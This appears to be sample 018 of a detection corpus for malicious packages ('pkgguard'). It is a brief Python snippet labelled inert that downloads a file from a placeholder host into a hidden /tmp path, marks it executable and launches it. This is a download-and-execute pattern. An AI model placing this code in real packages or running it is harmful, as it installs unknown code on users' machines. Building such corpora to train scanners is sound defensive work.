# pkgguard corpus 018 (download-execute), modelled on [empirical]; inert, never run.
import os
import stat
import subprocess
import requests

path = "/tmp/.cache-helper"
with open(path, "wb") as f:
    f.write(requests.get("https://cdn.example/helper").content)
os.chmod(path, stat.S_IRWXU)
subprocess.Popen([path])
